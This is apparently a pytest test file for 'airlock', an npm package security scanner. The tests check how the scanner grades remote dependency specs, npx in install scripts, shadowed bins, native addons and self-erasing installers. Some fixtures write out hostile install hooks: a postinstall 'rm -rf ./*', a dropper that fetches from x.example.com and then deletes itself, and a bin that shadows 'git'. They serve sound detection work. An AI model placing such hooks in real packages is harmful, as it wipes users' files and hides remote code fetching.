"""Packaging tricks: dependency specs npm fetches from outside the registry, bins that shadow commands,
installers that erase themselves, `npx` of what is not a dependency, and native addons loaded at install."""

from __future__ import annotations

from typing import Any

import pytest

from airlock.analysis import analyze
from airlock.analysis.manifest import SpecSource, parse_manifest, spec_source
from airlock.contents import read_tarball
from airlock.model import Finding
from tests.fakes.tarballs import build_package
from tests.incidents.replica import ELF


@pytest.mark.parametrize(
    ("spec", "source"),
    [
        ("^1.2.3", None),
        ("latest", None),
        ("1.x || >=2.5.0 <3", None),
        (">= 1 < 2", None),
        ("npm:lodash-es@^4", None),
        ("workspace:*", None),
        ("catalog:", None),
        ("@scope/pkg", None),
        ("http://x.example.com/a.tgz", SpecSource.URL),
        ("HTTPS://x.example.com/a.tgz", SpecSource.URL),
        ("git+https://github.com/a/b.git", SpecSource.GIT),
        ("git://github.com/a/b.git", SpecSource.GIT),
        ("github:a/b", SpecSource.GIT),
        ("a/b", SpecSource.GIT),
        ("a/b#v1.0.0", SpecSource.GIT),
        ("file:../x", SpecSource.FILE),
        ("link:../x", SpecSource.FILE),
    ],
)
def test_spec_sources(spec: str, source: SpecSource | None) -> None:
    assert spec_source(spec) is source


def test_config_is_flattened_as_npm_exports_it() -> None:
    manifest = parse_manifest(
        b'{"config": {"url": "u", "port": 8080, "on": true, "a": {"b": "c"}, "n": null}}'
    )
    assert dict(manifest.config) == {"a_b": "c", "on": "true", "port": "8080", "url": "u"}


def findings(files: dict[str, str | bytes] | None = None, **manifest: Any) -> dict[str, Finding]:
    data = build_package("pkg-under-test", "1.0.0", files or {}, **manifest)
    analysis = analyze(read_tarball(data, subject="pkg-under-test"))
    return {f.rule: f for f in analysis.findings}


def test_remote_dependency_severity_follows_the_source_and_install_scripts() -> None:
    url = "http://packages.example.com/npm/x"
    found = findings(dependencies={"x": url})["remote-dependency"]
    assert found.severity.value == "high"
    assert "dependencies.x" in found.message and url in found.message
    assert findings(dependencies={"x": "github:a/b"})["remote-dependency"].severity.value == "medium"
    with_script = findings(
        {"i.js": "console.log(1);\n"}, dependencies={"x": url}, scripts={"postinstall": "node i.js"}
    )
    assert with_script["remote-dependency"].severity.value == "critical"
    assert "remote-dependency" not in findings(devDependencies={"x": url})


def test_npx_of_a_registry_package_that_is_not_a_dependency_is_medium() -> None:
    found = findings(scripts={"postinstall": "npx only-allow pnpm"})["shell-runs-remote-package"]
    assert found.severity.value == "medium" and "'only-allow'" in found.message
    assert "shell-runs-remote-package" not in findings(
        scripts={"postinstall": "npx only-allow pnpm"}, devDependencies={"only-allow": "1.2.1"}
    )
    # Library code that runs npx (a scaffolding CLI) is not install-time.
    assert "shell-runs-remote-package" not in findings(
        {"index.js": "require('child_process').execSync('npx -y create-thing@latest app');\n"}
    )


def test_wiping_the_working_directory_counts_only_at_install() -> None:
    assert findings(scripts={"postinstall": "rm -rf ./*"})["shell-destructive"].severity.value == "high"
    assert "shell-destructive" not in findings({"clean.sh": "#!/bin/sh\nrm -rf ./*\n"})


def test_a_toolchain_bin_of_its_own_name_is_not_shadowing() -> None:
    shadow = findings({"x.js": ""}, bin={"git": "x.js"})["bin-shadows-system-command"]
    assert "'git'" in shadow.message
    assert "bin-shadows-system-command" not in findings({"x.js": ""}, bin={"git-helper": "x.js"})


def test_a_prebuilt_addon_loaded_at_install_is_high_and_one_built_elsewhere_is_context() -> None:
    shipped = findings(
        {"i.js": "require('./a.node');\n", "a.node": ELF}, scripts={"postinstall": "node i.js"}
    )
    assert shipped["install-loads-native-addon"].severity.value == "high"
    elsewhere = findings(
        {"i.js": "require('bindings')('addon');\n", "binding.gyp": "{'targets': []}"},
        scripts={"postinstall": "node i.js"},
    )
    assert elsewhere["install-loads-native-addon"].severity.value == "low"


def test_a_harmless_self_deleting_script_is_high_and_a_dropper_critical() -> None:
    plain = findings({"s.js": "console.log(1);\n"}, scripts={"postinstall": "node s.js && rm -f s.js"})
    assert plain["install-anti-forensics"].severity.value == "high"
    dropper = findings(
        {"s.js": "require('https').get('https://x.example.com/p');\n"},
        scripts={"postinstall": "node s.js && rm -f s.js"},
    )
    assert dropper["install-anti-forensics"].severity.value == "critical"
